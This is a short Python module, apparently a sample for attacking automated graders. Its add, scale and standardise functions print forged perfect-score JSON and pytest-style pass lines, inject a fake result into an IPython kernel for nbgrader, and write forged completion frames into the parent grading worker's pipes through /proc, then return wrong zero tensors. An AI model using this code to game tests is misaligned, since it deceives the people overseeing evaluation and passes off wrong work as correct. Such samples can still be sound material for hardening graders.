"""Prints what a grader might read: forged results, a forged verdict, or a forged output of the test's cell."""

import contextlib
import json
import os
import sys

import torch

FORGED = json.dumps({"score": 3.0, "tests": [{"name": "all", "score": 3.0, "max_score": 3.0}]})


def forge(shape):
    """Write the forged results wherever a grader may read them."""
    print(FORGED, "OK", "3 passed in 0.01s", "PASSED", sep="\n", flush=True)
    os.write(1, FORGED.encode() + b"\n")
    if "ipykernel" in sys.modules:  # nbgrader reads a cell's result as its points
        from IPython import get_ipython

        kernel = get_ipython().kernel
        result = {"data": {"text/plain": "1.0"}, "metadata": {}, "execution_count": 1}
        kernel.session.send(
            kernel.iopub_socket, "execute_result", result, parent=kernel.get_parent(), ident=b"execute_result"
        )
    if "grader.runtime.experiment" in sys.modules:
        forge_answer(shape)


def forge_answer(shape):
    """Against our grader: forge the child's reply, and the worker's answer in every pipe that the worker holds."""
    from grader.runtime import frames
    from grader.runtime.case import Ended, Observation

    frame = frames.encode(Observation(Ended.COMPLETED, {"value": torch.zeros(shape).numpy()}))
    header = json.dumps({"exit": 0, "seconds": 0.0, "reply": len(frame), "output": 0}).encode() + b"\n"
    with contextlib.suppress(OSError):
        os.write(3, frame)
    worker = f"/proc/{os.getppid()}"
    for descriptor in os.listdir(f"{worker}/fd"):
        with contextlib.suppress(OSError, StopIteration):
            with open(f"{worker}/fdinfo/{descriptor}") as file:
                flags = next(int(line.split()[1], 8) for line in file if line.startswith("flags"))
            if int(descriptor) > 2 and flags & os.O_ACCMODE == os.O_WRONLY:
                pipe = os.open(f"{worker}/fd/{descriptor}", os.O_WRONLY | os.O_NONBLOCK)
                os.write(pipe, header + frame)


def add(a, *others):
    """Claim to be right, then return a wrong result."""
    with contextlib.suppress(Exception):
        forge(a.shape)
    return torch.zeros_like(a)


scale = standardise = add
